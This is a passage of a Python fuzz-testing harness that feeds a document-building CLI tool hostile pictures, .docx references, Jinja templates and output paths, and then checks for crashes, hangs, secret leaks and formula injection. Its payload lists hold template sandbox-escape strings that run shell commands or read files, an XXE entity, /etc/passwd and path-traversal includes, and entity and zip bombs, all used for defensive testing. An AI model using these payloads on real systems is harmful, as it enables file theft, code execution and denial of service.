        Step(["diff", "review", "out/review", "--format", "csv"], requires=0),
        Step(["init", "out/next", "--from", "out/review"], requires=0),
        Step(["build", "out/review", "-o", "out/draft.docx", "--date", DATE], requires=0, writes=["out/draft.docx"]),
    ]


# --- the cases: pictures ---------------------------------------------------------------

PICTURES = {"logo": "review/logo.png", "case": "review/case-study-heat.png", "icon": "icons/goal-11.png"}


def setup_pictures(work: Path, case: Case, rng: random.Random, assets: Assets) -> Plan:
    kind = case.kind
    build = ["build", "review", "-o", "out/draft.docx", "--date", DATE]
    steps: list[Step] = []
    if kind.startswith("ref-"):
        ref = work / "ref.docx"
        case.description = _reference(ref, kind, work, case, rng, assets)
        build += ["--reference-docx", "ref.docx"]
    else:
        target = case.turn(list(PICTURES))
        case.kind = f"{kind}:{target}"
        path = work / PICTURES[target]
        if target == "icon":
            copy_tree(assets.get("icons"), work / "icons")
            build += ["--icons", "icons"]
        else:
            steps.append(Step(["validate", "review"]))
        case.description = f"{PICTURES[target]}: " + _picture(path, kind, case, rng)
    steps.append(Step(build, writes=["out/draft.docx"]))
    return Plan(steps, inputs=["review", "outside", "icons", "ref.docx"])


def _picture(path: Path, kind: str, case: Case, rng: random.Random) -> str:
    if kind == "dims":
        width, height, colour = rng.choice([(50_000, 50_000, 2), (50_000, 50_000, 6), (65_535, 65_535, 0)])
        if rng.random() < 0.25:
            write(path, jpeg_claiming(65_000, 65_000))
            return "a JPEG whose header claims 65,000 x 65,000 pixels"
        write(path, png(width, height, colour=colour, rows=rng.choice([1, 8])))
        return f"a PNG whose header claims {width:,} x {height:,} pixels (colour type {colour})"
    if kind == "truncated":
        data = path.read_bytes() if path.is_file() else png(64, 64)
        cut = rng.choice([rng.randrange(8, len(data)), len(data) // 2, 33, 8])
        write(path, data[:cut])
        return f"cut at {cut} of {len(data)} bytes"
    if kind == "fifo":
        replace_with(path, "fifo")
        return "a FIFO"
    if kind == "dev-zero":
        replace_with(path, "link", "/dev/zero")
        return "a link to /dev/zero"
    if kind == "huge-file":
        size = rng.choice([300 << 20, 5 << 29])
        sparse(path, png(64, 64), size)
        return f"a picture followed by zeros to {size >> 20} MiB"
    if kind == "not-picture":
        how = rng.choice(["random", "empty", "svg", "gif", "text", "bad-crc"])
        data = {
            "random": os.urandom(2048),
            "empty": b"",
            "svg": b'<svg xmlns="http://www.w3.org/2000/svg" width="99999999" height="99999999"/>',
            "gif": b"GIF89a\xff\xff\xff\xff\x00\x00\x00;",
            "text": b"not a picture\n",
            "bad-crc": png(64, 64)[:-5] + b"\x00\x00\x00\x00\x00",
        }[how]
        write(path, data)
        return how
    # link-out: a picture outside the inputs, carrying the secret in a text chunk
    secret = write(path.parent.parent / "outside" / "secret.png", png(64, 64, text=case.marker))
    replace_with(path, "link", os.path.relpath(secret, path.parent))
    return "a link to a picture outside the review (its text chunk holds the secret)"


def _reference(ref: Path, kind: str, work: Path, case: Case, rng: random.Random, assets: Assets) -> str:
    if kind == "ref-dev-zero":
        replace_with(ref, "link", "/dev/zero")
        return "--reference-docx is a link to /dev/zero"
    if kind == "ref-fifo":
        replace_with(ref, "fifo")
        return "--reference-docx is a FIFO"
    if kind == "ref-huge":
        sparse(ref, b"PK\x03\x04", rng.choice([300 << 20, 5 << 29]))
        return f"--reference-docx is {ref.stat().st_size >> 20} MiB of (mostly) zeros"
    if kind == "ref-bomb":
        write(ref, assets.get("bomb-document.docx").read_bytes())
        return "--reference-docx's document.xml inflates to 1.1 GiB"
    write(ref, assets.get("draft.docx").read_bytes())
    if kind == "ref-truncated":
        data = ref.read_bytes()
        cut = rng.randrange(len(data))
        write(ref, data[:cut])
        return f"--reference-docx cut at {cut} of {len(data)} bytes"
    if kind in ("ref-entity", "ref-xxe"):
        name = rng.choice(["word/styles.xml", "word/document.xml", "[Content_Types].xml", "word/footer1.xml"])
        if kind == "ref-entity":
            doctype, reference = rng.choice([(LAUGHS, "&l9;"), (QUADRATIC, "&a;" * 10_000)])
        else:
            doctype, reference = f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{work}/outside/secret.txt">]>', "&x;"
            if name == "word/styles.xml":
                edit_part(ref, name, lambda d: d.replace(b'w:val="Normal"', b'w:val="&x;"', 1))
                reference = ""
        edit_part(ref, name, lambda d: with_doctype(d, doctype, reference))
        return f"--reference-docx's {name}: {doctype[:80]}…"
    write(ref, rng.choice([png(64, 64), (EXAMPLE / "review.xlsx").read_bytes(), b"", b"PK\x05\x06" + bytes(18)]))
    return "--reference-docx is no .docx (a picture, a workbook, an empty file or an empty zip)"


# --- the cases: templates --------------------------------------------------------------

MUTATE = [
    "{{ goals.clear() }}",
    "{{ counts.update({'actions': 0}) }}",
    "{{ themes.append('x') }}",
    "{{ goals.pop(11, none) }}",
    "{% set _ = statuses.clear() %}",
    "{{ files.clear() }}",
    "{{ method.thresholds.clear() }}",
    "{{ goals[11].update({'title': 'changed'}) }}",
]
HUGE = [
    "{{ 'x'|center(999999999) }}",
    "{{ 'x' * 999999999 }}",
    "{{ range(999999999)|list|length }}",
    "{{ '%999999999s'|format('x') }}",
    "{{ 'x'|indent(999999999, true) }}",
    "{{ ['x'] * 999999999 }}",
    "{{ 'ab'|replace('', 'x' * 100000) }}",
    "{% set ns = namespace(x='a') %}{% for i in range(40) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}{{ ns.x|length }}",
]
SLOW = [
    "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ (10 ** 100000) ** 1000 }}",
    "{% for i in range(100000) %}{% for j in range(100000) %}{{ '' }}{% endfor %}{% endfor %}",
]
ESCAPE = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('cat outside/secret.txt').read() }}",
    "{{ lipsum.__globals__['os'].popen('cat outside/secret.txt').read() }}",
    "{{ self.__init__.__globals__ }}",
    "{{ namespace.__init__.__globals__['__builtins__']['open']('outside/secret.txt').read() }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ ().__class__.__base__.__subclasses__() }}",
    "{{ goals.__class__.__init__.__globals__ }}",
    "{{ placeholder.__globals__['open']('outside/secret.txt').read() }}",
    "{{ placeholder.__code__.co_consts }}",
]
INCLUDES = [
    "{% include '../outside/secret.j2' %}",
    "{% include '/etc/passwd' %}",
    "{% include 'sub/secret.j2' %}",
    "{% import '../outside/secret.j2' as s %}{{ s }}",
    "{% extends '../outside/secret.j2' %}",
    "{% include '..\\\\outside\\\\secret.j2' %}",
    "{% include 'sub/../../outside/secret.j2' %}",
]
RECURSION = [
    ("opening.j2", "{% include 'opening.j2' %}", None),
    ("opening.j2", "{% include 'introduction.j2' %}", ("introduction.j2", "{% include 'opening.j2' %}")),
    ("opening.j2", "{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}", None),
    ("opening.j2", "{% extends 'opening.j2' %}", None),
    ("goal.j2", "{% for x in [1] recursive %}{{ loop([x]) }}{% endfor %}", None),
]
SYNTAX = [
    "{% if %}",
    "{{ nonexistent }}",
    "{% endfor %}",
    "{{ city",
    "{% raw %}",
    "{{ city|nonexistentfilter }}",
    "{% include %}",
    "{{ 1/0 }}",
    "{{ city[999] }}",
]
NUL = [b"a\x00b {{ city }}", b"\x00" * 1000, b"{{ city }}\x00{{ country }}", b"{{ '\x00' }}", b"\x00{% if %}"]
TEMPLATES = ["opening.j2", "introduction.j2", "goal.j2", "indicator.j2"]


def setup_templates(work: Path, case: Case, rng: random.Random, assets: Assets) -> Plan:
    tpl, kind = work / "tpl", case.kind
    tpl.mkdir()
    write(work / "outside" / "secret.j2", f"Secret text {case.marker}\n")
    name = rng.choice(TEMPLATES)
    build = Step(
        ["build", "review", "-o", "out/draft.docx", "--date", DATE, "--templates", "tpl"], writes=["out/draft.docx"]
    )
    pools = {"mutate-context": MUTATE, "huge-output": HUGE, "slow": SLOW, "sandbox-escape": ESCAPE, "syntax": SYNTAX}
    if kind in pools:
        text = rng.choice(pools[kind])
        write(tpl / name, f"{{{{ city }}}} is a city.\n{text}\n")
        case.description = f"{name}: {text}"
    elif kind == "nul-bytes":
        data = rng.choice(NUL)
        write(tpl / name, data)
        case.description = f"{name}: {data[:40]!r}"
    elif kind == "huge-template":
        size, one_line = rng.choice([20 << 20, 100 << 20]), rng.random() < 0.3
        line = b"x" * size if one_line else b"{{ city }} is a city.\n" * (size // 22)
        write(tpl / name, line)
        case.description = f"{name}: {size >> 20} MiB" + (" on one line" if one_line else "")
    elif kind == "link-out":
        replace_with(tpl / name, "link", "../outside/secret.j2")
        case.description = f"{name} is a link to a file outside the templates folder"
    elif kind == "include-out":
        text = rng.choice(INCLUDES)
        (tpl / "sub").symlink_to("../outside")
        write(tpl / name, f"{{{{ city }}}} is a city.\n{text}\n")
        case.description = f"{name}: {text} (tpl/sub is a link to outside/)"
        case.markers.append(PASSWD)
    elif kind == "recursion":
        name, text, other = rng.choice(RECURSION)
        write(tpl / name, text + "\n")
        if other:
            write(tpl / other[0], other[1] + "\n")
        case.description = f"{name}: {text}" + (f"; {other[0]}: {other[1]}" if other else "")
    elif kind in ("fifo", "dev-zero", "folder"):
        replace_with(tpl / name, {"dev-zero": "link"}.get(kind, kind), "/dev/zero")
        case.description = f"{name} is " + {"fifo": "a FIFO", "dev-zero": "a link to /dev/zero"}.get(kind, "a folder")
    elif kind == "narrative":
        case.description = _narrative(work / "review" / "review.xlsx", rng)
        return Plan([Step(["validate", "review"]), Step(build.args[:-2], writes=build.writes)], ["review", "outside"])
    return Plan([build], inputs=["review", "outside", "tpl"])


def _narrative(path: Path, rng: random.Random) -> str:
    import openpyxl

    text = rng.choice(MUTATE + HUGE + SLOW + ESCAPE + INCLUDES[:2] + [RECURSION[2][1]] + SYNTAX)
    wb = openpyxl.load_workbook(path)
    ws = wb["Narratives"]
    row = rng.randrange(2, ws.max_row + 1)
    ws.cell(row, 2).value = f"{ws.cell(row, 2).value or ''} {text}"
    wb.save(path)
    return f"Narratives {ws.cell(row, 1).value}: … {text}"


# --- the cases: output paths -----------------------------------------------------------

FILE_COMMANDS: dict[str, Callable[[str], list[str]]] = {
    "build": lambda t: ["build", "review", "-o", t, "--date", DATE],
    "build-from": lambda t: ["build", "review", "-o", t, "--from", "draft.docx", "--date", DATE],
    "coverage": lambda t: ["coverage", "review", "--xlsx", t],
    "diff": lambda t: ["diff", "review", "review2", "--xlsx", t],
    "suggest": lambda t: ["suggest", "review", "--xlsx", t],
}
FOLDER_COMMANDS: dict[str, Callable[[str], list[str]]] = {
    "init": lambda t: ["init", t, "--from", "review", "--year", "2027"],
    "import": lambda t: ["import", "open-sdg", "repo", "-o", t, "--city", "Testbury", "--year", "2026"],
}
TARGETS = ["equal-input", "inside-input", "link-to-input", "dangling-link", "existing"]


def setup_output(work: Path, case: Case, rng: random.Random, assets: Assets) -> Plan:
    copy_tree(assets.get("review2"), work / "review2")
    make_repository(work / "repo")
    write(work / "draft.docx", assets.get("draft.docx").read_bytes())
    command, target = case.kind.split(":")
    inputs = ["review", "review2", "repo", "outside", "draft.docx"]
    folder = command in FOLDER_COMMANDS
    ext = ".docx" if command.startswith("build") else ".xlsx"
    files = sorted(str(p.relative_to(work)) for p in (work / "review").iterdir())
    if command == "diff":
        files += sorted(str(p.relative_to(work)) for p in (work / "review2").iterdir())
    if command == "build-from":
        files += ["draft.docx"]
    # what the command reads: an output is refused there; a folder it does not read is no input of it
    read_folders = {"init": ["review"], "import": ["repo"]}.get(
        command, ["review", "review2"][: 1 + (command == "diff")]
    )
    if target == "equal-input":
        path = rng.choice(read_folders if folder else files)
        path = rng.choice([path, "./" + path, "out/../" + path])
    elif target == "inside-input":
        base = rng.choice(read_folders)
        path = rng.choice([f"{base}/new", f"{base}/sub/new"]) + ("" if folder else ext)
    elif target == "link-to-input":
        path = "out/link" + ("" if folder else ext)
        replace_with(work / path, "link", "../" + rng.choice(read_folders if folder else files))
    elif target == "dangling-link":
        path = "out/dangling" + ("" if folder else ext)
        replace_with(
            work / path, "link", rng.choice(["../outside/planted", "../review/planted"]) + ("" if folder else ext)
        )
    elif target == "existing":
        path = "out/existing" + ("" if folder else ext)
        if folder:
            write(work / path / "review.xlsx", (EXAMPLE / "review.xlsx").read_bytes())
            write(work / path / "notes.txt", "work in progress\n")
        else:
            write(work / path, (assets.get("draft.docx") if ext == ".docx" else EXAMPLE / "events.xlsx").read_bytes())
    else:  # sidecar: the draft's data workbook is a link to an input, or is there already
        path = "out/d.docx"
        if target == "sidecar-link":
            replace_with(work / "out/d-data.xlsx", "link", "../" + rng.choice(files))
        else:
            write(work / "out/d-data.xlsx", (EXAMPLE / "events.xlsx").read_bytes())
    args = (FOLDER_COMMANDS.get(command) or FILE_COMMANDS[command])(path)
    if command == "suggest" and rng.random() < 0.5:
        args += ["--from", "review2"]
    case.description = f"{command} writing {path}" + (
        f" (a link to {os.readlink(work / path)})" if (work / path).is_symlink() else ""
    )
    return Plan([Step(args)], inputs=inputs)


CLASSES: dict[str, tuple[Callable, list[str]]] = {
    "draft": (
        setup_draft,
        [f"broken:{p}" for p in PARTS]
        + [f"missing:{p}" for p in PARTS]
        + [
            "no-body",
            "entity-bomb",
            "external-entity",
            "deep-nesting",
            "duplicate-entry",
            "encrypted-flag",
            "bad-crc",
            "unknown-compression",
            "zip-bomb",
            "traversal-entry",
            "huge-custom-property",
            "truncated",
            "fifo",
            "dev-zero",
        ],
    ),
    "repository": (
        setup_repository,
        [
            "link-out",
            "link-folder",
            "dev-zero",
            "fifo",
            "yaml-bomb",
            "huge-field",
            "meta-folder",
            "far-year",
            "formula",
            "formula",
            "garbage-csv",
        ],
    ),
    "pictures": (
        setup_pictures,
        ["dims", "truncated", "fifo", "dev-zero", "huge-file", "not-picture", "link-out"]
        + [
            "ref-dev-zero",
            "ref-fifo",
            "ref-huge",
            "ref-bomb",
            "ref-truncated",
            "ref-entity",
            "ref-xxe",
            "ref-not-docx",
        ],
    ),
    "templates": (
        setup_templates,
        [
            "mutate-context",
            "huge-output",
            "slow",
            "nul-bytes",
            "huge-template",
            "link-out",
            "include-out",
            "recursion",
            "sandbox-escape",
            "narrative",
            "narrative",
            "fifo",
            "dev-zero",
            "folder",
            "syntax",
        ],
    ),
    "output": (
        setup_output,
        [f"{c}:{t}" for c in [*FILE_COMMANDS, *FOLDER_COMMANDS] for t in TARGETS]
        + ["build:sidecar-link", "build:sidecar-existing"],
    ),
}


# --- the contract ----------------------------------------------------------------------


def exception(err: str) -> str:
    found = re.search(r"Internal error: ([\w.]+)", err)
    if found:
        return found.group(1)
    names = re.findall(r"^([A-Za-z_][\w.]*(?:Error|Exception|Exit|Interrupt))\b", err, re.M)
    return names[-1] if names else "no exception named"


def pattern(rel: str) -> str:
    """What a path is, for a failure's signature: its top folder and its kind of file."""
    top, _, rest = rel.partition("/")
    return f"{top}/*{Path(rest).suffix}" if rest else f"*{Path(rel).suffix or rel}"


def common(case: Case, run: Run) -> None:
    err, name = run.err.strip(), run.name
    tail = " | ".join(err.splitlines()[-3:])[-400:]
    if run.code is None:
        case.fail("hang", name, f"{run.command} ran past {run.timeout} s", run)
    elif "MemoryError" in err:
        case.fail("memory", name, f"{run.command} exited {run.code}: {tail}", run)
    elif run.code < 0:
        case.fail("killed", f"{name} signal {-run.code}", f"{run.command} was killed by signal {-run.code}", run)
    elif run.code not in (0, 1, 2) or "Traceback" in err or "Internal error" in err:
        case.fail("crash", f"{name} {exception(err)}", f"{run.command} exited {run.code}: {tail}", run)
    errors = [line for line in err.splitlines() if line.startswith("Error:")]
    if run.code == 2 and (len(errors) != 1 or not err.endswith(errors[0])):
        case.fail("message", f"{name} exit 2 without one Error line", f"{run.command} exited 2: {tail}", run)
    long = [line for line in (run.out + run.err).splitlines() if len(line) > MAX_LINE]
    if long:
        case.fail("message", f"{name} long line", f"{run.command}: a line of {len(long[0]):,} characters", run)


def find_marker(path: Path, markers: list[str]) -> str | None:
    wanted = [m.lower().encode() for m in markers]

    def search(stream) -> str | None:
        seen, last = 0, b""
        while seen < SCAN:
            chunk = stream.read(1 << 20)
            if not chunk:
                return None
            window = (last + chunk).lower()
            for m in wanted:
                if m in window:
                    return m.decode()
            seen, last = seen + len(chunk), window[-64:]
        return None

    try:
        with open(path, "rb") as f:
            hit = search(f)
        if hit or not zipfile.is_zipfile(path):
            return hit
        with zipfile.ZipFile(path) as zf:
            for info in zf.infolist():
                with zf.open(info) as member:
                    hit = search(member)
                if hit:
                    return f"{hit} (in {info.filename})"
    except (OSError, zipfile.BadZipFile, RuntimeError, NotImplementedError, EOFError, zlib.error):
        return None
    return None


FORMULA_XML = re.compile(rb"<(?:\w+:)?f[\s>/]")


def formula_in(path: Path) -> str | None:
    try:
        with zipfile.ZipFile(path) as zf:
            for name in zf.namelist():
                if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                    with zf.open(name) as member:
                        if FORMULA_XML.search(member.read(SCAN)):
                            return f"{name} holds an <f> element"
    except (OSError, zipfile.BadZipFile, RuntimeError, NotImplementedError, EOFError, zlib.error):
        return None
    import openpyxl

    try:
        wb = openpyxl.load_workbook(path, read_only=True)
    except Exception:  # what openpyxl cannot read is not what is checked here
        return None
    try:
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if getattr(cell, "data_type", None) == "f":
                        return f"{ws.title}!{cell.coordinate} is a formula: {str(cell.value)[:80]!r}"
    finally:
        wb.close()
    return None


CSV_FORMULA = re.compile(r"^[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"^[+-]?(\d[\d,]*)?(\.\d+)?([eE][+-]?\d+)?\s*%?$")


def escaping_entries(path: Path) -> list[str]:
    try:
        with zipfile.ZipFile(path) as zf:
            names = zf.namelist()
    except (OSError, zipfile.BadZipFile):
        return []
    return [n for n in names if n.startswith(("/", "\\")) or ".." in re.split(r"[/\\]", n)]


def check_files(case: Case, work: Path, plan: Plan, step: Step, run: Run, before: dict, after: dict, initial: dict):
    def is_input(rel: str) -> bool:
        return any(rel == r or rel.startswith(r + "/") for r in plan.inputs)

    new = [rel for rel in after if rel not in before]
    backups = {after[rel] for rel in new}
    what = f"{run.command} (exit {run.code})"
    for rel, value in before.items():
        now = after.get(rel)
        if now == value or value == "dir" and now is None:
            continue
        if rel == step.update:
            if run.code != 0:
                case.fail("draft-changed", run.name, f"{what} changed the draft it failed to update", run)
            elif value not in backups:
                case.fail("no-backup", run.name, f"{what} replaced {rel} and kept no copy of it", run)
        elif is_input(rel):
            gone = " (removed)" if now is None else ""
            case.fail("input-modified", f"{run.name} {pattern(rel)}", f"{what} changed the input {rel}{gone}", run)
        elif initial.get(rel) == value and value.startswith("link:"):
            continue  # a link replaced by a file: nothing written through it (checked below)
        elif initial.get(rel) == value and value not in backups:
            case.fail("replaced-without-backup", f"{run.name} {pattern(rel)}", f"{what} replaced {rel}, no backup", run)
    inside = [rel for rel in new if is_input(rel)]
    for rel in [r for r in inside if after[r] != "dir"] or inside:  # the files written, else the folders
        case.fail("wrote-into-input", f"{run.name} {pattern(rel)}", f"{what} wrote {rel} inside an input", run)
    for rel, value in before.items():
        if not value.startswith("link:"):
            continue
        target = os.path.relpath(os.path.normpath(os.path.join(work, os.path.dirname(rel), value[5:])), work)
        if not target.startswith("..") and target not in before and target in after:
            case.fail("written-through-link", run.name, f"{what} wrote {target} through the link {rel}", run)
    for rel in step.writes:
        left = [r for r in after if (r == rel or r.startswith(rel + "/")) and r not in before and after[r] != "dir"]
        if run.code not in (0, None) and left:
            case.fail("partial-output", run.name, f"{what} failed and left {', '.join(left[:3])} behind", run)


def check_outputs(case: Case, work: Path, run: Run, before: dict, after: dict) -> None:
    markers = [case.marker, *case.markers]
    copies = set(before.values())  # a backup holds what was there: not vlr's to answer for
    written = [
        rel
        for rel, v in after.items()
        if before.get(rel) != v and v != "dir" and not v.startswith(("link:", "special:")) and v not in copies
    ]
    for rel in written:
        path = work / rel
        hit = find_marker(path, markers)
        if hit:
            case.fail("secret-leaked", f"{run.name} {pattern(rel)}", f"{run.command}: {hit} is in {rel}", run)
        if rel.endswith(".xlsx"):
            found = formula_in(path)
            if found:
                case.fail("formula", f"{run.name} {pattern(rel)}", f"{run.command}: {rel}: {found}", run)
        if rel.endswith((".docx", ".xlsx")):
            bad = escaping_entries(path)
            if bad:
                case.fail("zip-entry-carried", run.name, f"{run.command}: {rel} has the entry {bad[0]!r}", run)
    for stream, text in (("standard output", run.out), ("standard error", run.err)):
        for m in markers:
            if m.lower() in text.lower():
                case.fail("secret-leaked", f"{run.name} printed", f"{run.command} printed {m} on {stream}", run)
    if "--format" in run.args and run.args[run.args.index("--format") + 1] == "csv" and run.code in (0, 1):
        for row in csv.reader(io.StringIO(run.out)):
            bad = [f for f in row if CSV_FORMULA.match(f) and not PLAIN_NUMBER.match(f)]
            if bad:
                case.fail("formula", f"{run.name} csv", f"{run.command} printed the CSV field {bad[0][:80]!r}", run)
                break


def must_refuse(case: Case, work: Path, plan: Plan) -> None:
    """An output equal to, inside or linked to an input is refused (exit 1 or 2) with a reason."""
    run = case.runs[0]
    if run.code == 0:
        case.fail("not-refused", run.name, f"{run.command} exited 0: {(run.out + run.err).strip()[-300:]}", run)


def execute(case: Case, work: Path, plan: Plan, cache: Path, timeout: int) -> None:
    initial = before = digest(work)
    codes: dict[int, int | None] = {}
    for number, step in enumerate(plan.steps):
        if step.requires is not None and codes.get(step.requires) != 0:
            continue
        run = vlr(step.args, work, cache, timeout)
        case.runs.append(run)
        codes[number] = run.code
        after = digest(work)
        common(case, run)
        check_files(case, work, plan, step, run, before, after, initial)
        check_outputs(case, work, run, before, after)
        before = after
    for check in plan.checks:
        check(case, work, plan)


# --- cases, reproducers and campaigns --------------------------------------------------


def pick(number: int, seed: int, classes: list[str]) -> tuple[str, str, int]:
    """Classes in turn, and each class's kinds in turn from a point the seed chooses; and the
    round, how many times the campaign has come back to that kind."""
    cls = classes[number % len(classes)]
    kinds = CLASSES[cls][1]
    at = number // len(classes) + random.Random(f"{seed}-{cls}").randrange(len(kinds))
    return cls, kinds[at % len(kinds)], at // len(kinds)


def run_case(number: int, seed: int, classes: list[str], assets: Assets, keep: Registry | None, timeout: int) -> Case:
    rng = random.Random(f"{seed}-{number}")
    case = Case(number, seed)
    case.cls, case.kind, case.round = pick(number, seed, classes)
    case.marker = "VLRSECRET" + hashlib.sha1(f"{seed}-{number}".encode()).hexdigest()[:12].upper()
    with tempfile.TemporaryDirectory(prefix="vlr-fuzzs-") as tmp:
        work = Path(tmp) / "case"
        copy_tree(EXAMPLE, work / "review")
        write(work / "outside" / "secret.txt", f"{case.marker}\n")
        (work / "out").mkdir()
        try:
            plan = CLASSES[case.cls][0](work, case, rng, assets)
        except Exception as exc:  # the harness's own bug: said, not hidden
            case.fail("harness", type(exc).__name__, f"setting up the case failed: {exc!r}")
            return case
        if case.cls == "output" and case.kind.split(":")[1] in ("equal-input", "inside-input", "link-to-input"):
            plan.checks.append(must_refuse)
        snapshot = Path(tmp) / "input"
        copy_tree(work, snapshot)
        execute(case, work, plan, assets.cache, timeout)
        if case.failures and keep is not None:
            keep.save(case, snapshot)
    return case


class Registry:
    """The reproducers in ``out``: a folder per case that found a failure not seen before, and
    ``index.json``, each distinct failure (class, kind, type, signature) with its folder."""

    def __init__(self, out: Path):
        self.out = out
        out.mkdir(parents=True, exist_ok=True)
        self.path = out / "index.json"
        self.index = json.loads(self.path.read_text()) if self.path.exists() else {}
        self._lock = threading.Lock()

    @staticmethod
    def key(case: Case, failure: tuple) -> str:
        return f"{case.cls}|{case.kind}|{failure[0]}|{failure[1]}"

    def save(self, case: Case, snapshot: Path) -> None:
        with self._lock:
            fresh = [f for f in case.failures if self.key(case, f) not in self.index]
            if not fresh:
                return
            kind = re.sub(r"[^\w.-]+", "_", case.kind)
            name = f"{case.cls}-{kind}-{fresh[0][0]}-{hashlib.sha1(self.key(case, fresh[0]).encode()).hexdigest()[:8]}"
            case.folder = str(self.out / name)
            for failure in fresh:
                run = case.runs[failure[3]] if failure[3] is not None else None
                self.index[self.key(case, failure)] = {
                    "class": case.cls,
                    "kind": case.kind,
                    "type": failure[0],
                    "signature": failure[1],
                    "detail": failure[2],
                    "case": case.number,
                    "seed": case.seed,
                    "description": case.description,
                    "command": run.command if run else None,
                    "exit": run.code if run else None,
                    "stderr": run.err.strip().splitlines()[-4:] if run else [],
                    "folder": case.folder,
                }
            self.path.write_text(json.dumps(self.index, indent=2, ensure_ascii=False))
        target = Path(case.folder)
        copy_tree(snapshot, target / "input")
        for number, run in enumerate(case.runs, 1):
            (target / f"run-{number}.stdout").write_text(run.out[-1_000_000:])
            (target / f"run-{number}.stderr").write_text(run.err[-1_000_000:])
        (target / "reproduce.sh").write_text(reproduce_script(case))
        (target / "reproduce.sh").chmod(0o755)
        (target / "case.json").write_text(json.dumps(case_record(case), indent=2, ensure_ascii=False))


def reproduce_script(case: Case) -> str:
    lines = [
        "#!/bin/sh",
        f"# {case.cls} / {case.kind}: {case.description}"[:300].replace("\n", " "),
        "# The case's commands on a copy of input/ (VLR=path/to/vlr chooses the vlr that runs).",
        'here=$(cd "$(dirname "$0")" && pwd)',
        "work=$(mktemp -d)",
        'cp -a "$here/input/." "$work/"',
        'cd "$work" || exit 1',
        "VLR=${VLR:-vlr}",
    ]
    for run in case.runs:
        args = " ".join(shlex.quote(a) for a in run.args)
        lines += [f"echo {shlex.quote('$ ' + run.command)}", f'timeout {TIMEOUT} prlimit --as={MEMORY} "$VLR" {args}']
        lines.append('echo "exit $?"')
    return "\n".join([*lines, 'echo "(ran in $work)"']) + "\n"


def case_record(case: Case) -> dict:
    return {
        "case": case.number,
        "seed": case.seed,
        "class": case.cls,
        "kind": case.kind,
        "description": case.description,
        "markers": [case.marker, *case.markers],
        "failures": [{"type": t, "signature": s, "detail": d, "run": r} for t, s, d, r in case.failures],
        "runs": [{"command": r.command, "exit": r.code, "seconds": round(r.seconds, 2)} for r in case.runs],
        "again": f"python tests/fuzz_surfaces.py --seed {case.seed} --case {case.number}",
        "note": "absolute paths in the inputs (file:// entities) name the folder the case ran in",
    }


def campaign(
    count: int,
    seed: int,
    out: Path | None = None,
    jobs: int = 3,
    say=print,
    classes: list[str] | None = None,
    timeout: int = TIMEOUT,
    numbers: list[int] | None = None,
    verbose: bool = False,
) -> list[Case]:
    classes = classes or list(CLASSES)
    cases: list[Case] = []
    registry = Registry(out) if out is not None else None
    with tempfile.TemporaryDirectory(prefix="vlr-fuzzs-assets-") as tmp, ThreadPoolExecutor(jobs) as pool:
        assets = Assets(Path(tmp))
        todo = numbers if numbers is not None else range(count)
        for case in pool.map(lambda n: run_case(n, seed, classes, assets, registry, timeout), todo):
            cases.append(case)
            if verbose:
                runs = "; ".join(f"{r.name} → {r.code} in {r.seconds:.1f} s" for r in case.runs)
                say(f"case {case.number} {case.cls}/{case.kind}: {case.description[:120]} | {runs}")
            if case.failures:
                say(
                    f"case {case.number} {case.cls}/{case.kind} ({case.description[:100]}): "
                    + "; ".join(f"{t}: {d[:200]}" for t, _, d, _ in case.failures)
                )
    return cases


def report(out: Path) -> str:
    """The distinct failures in ``out``'s index, grouped by class and type: each with its kind,
    the command, its exit code, the last lines it printed and its reproducer folder."""
    index = json.loads((out / "index.json").read_text()) if (out / "index.json").exists() else {}
    lines = [f"{len(index)} distinct failures in {out}"]
    entries = sorted(index.values(), key=lambda e: (list(CLASSES).index(e["class"]), e["type"], e["kind"]))
    group = None
    for e in entries:
        if (e["class"], e["type"]) != group:
            group = (e["class"], e["type"])
            lines += ["", f"## {e['class']}: {e['type']}"]
        lines.append(f"- {e['kind']} ({e['description'][:120]}) [{e['signature']}]")
        lines.append(f"    $ {e['command']}  -> exit {e['exit']}")
        lines += [f"    | {line[:200]}" for line in e["stderr"][-3:]]
        if e["type"] not in ("crash", "memory", "hang"):
            lines.append(f"    {e['detail'][:300]}")
        lines.append(f"    {Path(e['folder']).name}")
    return "\n".join(lines)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--count", type=int, default=100)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--out", type=Path, default=ROOT / "build" / "fuzz-surfaces")
    parser.add_argument("--jobs", type=int, default=3)
    parser.add_argument("--classes", default=",".join(CLASSES), help="a comma-separated list of " + ", ".join(CLASSES))
    parser.add_argument("--case", type=int, action="append", help="run this case (of --seed) alone; repeatable")
    parser.add_argument("--timeout", type=int, default=TIMEOUT)
    parser.add_argument("--verbose", action="store_true", help="say what every case did, not only the failures")
    parser.add_argument("--report", action="store_true", help="print the distinct failures kept in --out, and stop")
    args = parser.parse_args()
    if args.report:
        print(report(args.out))
        return
    classes = [c.strip() for c in args.classes.split(",") if c.strip()]
    unknown = set(classes) - set(CLASSES)
    if unknown:
        parser.error(f"no such class: {', '.join(sorted(unknown))}")
    started = time.monotonic()
    cases = campaign(
        args.count,
        args.seed,
        args.out,
        args.jobs,
        classes=classes,
        timeout=args.timeout,
        numbers=args.case,
        verbose=args.verbose,
    )
    failed = [c for c in cases if c.failures]
    types: dict[str, int] = {}
    for c in failed:
        for t, *_ in c.failures:
            types[t] = types.get(t, 0) + 1
    distinct = {Registry.key(c, f) for c in failed for f in c.failures}
    print(
        f"{len(cases)} cases ({', '.join(f'{k} {sum(c.cls == k for c in cases)}' for k in classes)}), seed {args.seed},"
        f" {time.monotonic() - started:.0f} s: {len(cases) - len(failed)} clean, {len(failed)} failed"
        + (
            f" ({', '.join(f'{k} {n}' for k, n in sorted(types.items()))}); {len(distinct)} distinct failures,"
            f" reproducers in {args.out} (index.json)"
            if failed
            else ""
        )
    )
    sys.exit(1 if failed else 0)

